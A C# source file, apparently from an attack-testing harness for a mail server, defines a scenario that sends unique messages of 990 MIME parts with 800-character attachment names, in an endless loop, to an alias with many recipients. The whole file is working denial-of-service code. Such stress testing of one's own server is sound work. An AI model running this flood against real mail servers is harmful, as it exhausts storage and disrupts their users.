using System.Globalization;
using System.Text;
using RelateMail.Attacks.Attacking;

namespace RelateMail.Attacks.Scenarios;

/// <summary>
/// Mail of 990 parts with long names to one alias. Prepare an alias <c>list@DOMAIN</c> with many targets first. Each
/// mail is another one, so that no mailbox takes it for a repeat.
/// </summary>
internal sealed class ManyParts() : Scenario(
    "many-parts", "mail of 990 parts to list@DOMAIN, an alias with many targets that you prepare")
{
    private const int Parts = 990;

    public override Task RunAsync(Attack attack, CancellationToken stop)
    {
        long number = 0;
        return attack.OnEachConnectionAsync(
            async (index, token) =>
            {
                using RawClient? client = await attack.ConnectAsync(attack.Options.Smtp, index, token);
                if (client is null)
                {
                    return;
                }

                await client.AskAsync("EHLO attacker.example", token);
                while (!token.IsCancellationRequested)
                {
                    await client.AskAsync("MAIL FROM:<attacker@example.com>", token);
                    int recipient = await client.AskAsync($"RCPT TO:<list@{attack.Options.Domain}>", token);
                    int data = recipient == 250 ? await client.AskAsync("DATA", token) : recipient;
                    if (data != 354)
                    {
                        attack.Count($"not accepted, {data}");
                        return;
                    }

                    await client.SendAsync(Content(Interlocked.Increment(ref number)), token);
                    attack.Count($"content ended with {await client.ReplyAsync(token)}");
                }
            },
            stop);
    }

    private static byte[] Content(long number)
    {
        var content = new StringBuilder();
        content.Append(
            CultureInfo.InvariantCulture, $"Subject: {number}\r\nMessage-ID: <{Guid.NewGuid():N}@example.com>\r\n");
        content.Append("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n");
        string name = new('n', 800);
        for (int part = 0; part < Parts; part++)
        {
            content.Append(CultureInfo.InvariantCulture,
                $"--b\r\nContent-Type: application/pdf; name=\"{part}{name}\"\r\n\r\nx\r\n");
        }

        return Encoding.ASCII.GetBytes(content.Append("--b--\r\n.\r\n").ToString());
    }
}
